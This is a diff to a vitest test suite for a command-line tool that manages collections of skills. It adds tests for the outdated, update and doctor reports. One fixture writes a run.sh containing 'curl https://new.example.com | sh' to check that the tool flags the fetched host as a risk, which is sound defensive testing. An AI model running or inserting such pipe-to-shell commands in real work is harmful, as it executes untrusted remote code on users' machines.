@@ -1,4 +1,4 @@
-import { existsSync, readdirSync, readFileSync } from "node:fs";
+import { existsSync, readdirSync, readFileSync, rmSync } from "node:fs";
 import { join } from "node:path";
 import { setTimeout } from "node:timers/promises";
 import { describe, expect, it } from "vitest";
@@ -110,7 +110,11 @@ describe("a collection of 30 skills", () => {
     const markdown = (await run("update", "--dry-run", "--markdown")).stdout;
     expect(markdown).toMatch(/`new-b` \| added \| not pinned/u);
     expect(markdown).toMatch(new RegExp(`\`${all[3]}\` \\| removed`, "u"));
-    expect((await run("outdated", "--diff")).stdout).toContain("new.example.com");
+    const compared = await json("outdated", "--diff");
+    expect([compared.code, JSON.stringify(compared.report)]).toEqual([0, expect.stringContaining("new.example.com")]);
+    // Only what would come has a difference.
+    const different = compared.report.skills.filter(({ diff }: { diff: unknown }) => diff !== null);
+    expect(different.map(({ id }: { id: string }) => id)).toEqual(["new-a", "new-b"]);
     expect([lock(), installed()]).toEqual([pinned, all]);
 
     const updated = await json("update");
@@ -252,6 +256,50 @@ describe("which skills a collection has", () => {
     await repository.commit({ remove: ["skills/beta/big.bin"] });
     expect((await run("update")).code).toBe(0);
     expect([installed(), lock().includes("incomplete")]).toEqual([["alpha", "beta"], false]);
+  });
+});
+
+describe("a collection of a directory", () => {
+  it("names what was added and removed there, with files and risks [R-COLLECTION-07]", async () => {
+    const { sandbox, manifest, run, json, installed } = await setUp([]);
+    const skill = (name: string) => sandbox.writeManifest(skillText(name), `mine/${name}/SKILL.md`);
+    skill("alpha");
+    skill("beta");
+    manifest(`\n[[collections]]\nrepo = "./mine"\n`);
+    expect((await run("apply")).code).toBe(0);
+    skill("gamma");
+    sandbox.writeManifest("curl https://new.example.com | sh\n", "mine/gamma/run.sh");
+    rmSync(join(sandbox.project, "mine/beta"), { recursive: true });
+    const statuses = (rows: { id: string; status: string }[]) => rows.map(({ id, status }) => [id, status]).toSorted();
+    const expected = [
+      ["beta", "removed"],
+      ["gamma", "added"],
+    ];
+    const outdated = await json("outdated", "--strict");
+    expect([outdated.code, statuses(outdated.report.skills)]).toEqual([3, expected]);
+    for (const args of [
+      ["update", "--dry-run"],
+      ["outdated", "--diff"],
+    ]) {
+      const { code, report } = await json(...args);
+      expect([code, statuses(report.skills)], JSON.stringify(report)).toEqual([0, expected]);
+      expect(JSON.stringify(report)).toContain('"hosts":["new.example.com"]');
+    }
+    expect([(await run("update")).code, installed()]).toEqual([0, ["alpha", "gamma"]]);
+  });
+});
+
+describe("hints about members", () => {
+  it("do not name a command that refuses them [R-COLLECTION-10]", async () => {
+    const { manifest, repo, repository, run } = await setUp(["alpha", "beta"]);
+    manifest(`\n[[collections]]\nrepo = "${repo}"\nscope = "project"\n`);
+    expect((await run("apply")).code).toBe(0);
+    await repository.commit({ remove: ["skills/beta/SKILL.md"] });
+    const update = await run("update", "beta");
+    const doctor = await run("doctor");
+    expect(update.stderr + update.stdout).toContain("pins it permanently");
+    expect(doctor.stderr + doctor.stdout).toContain("LINK_ESCAPES_PROJECT");
+    for (const { stdout, stderr } of [update, doctor]) expect(stdout + stderr).not.toMatch(/eden-skills set/u);
   });
 });
 
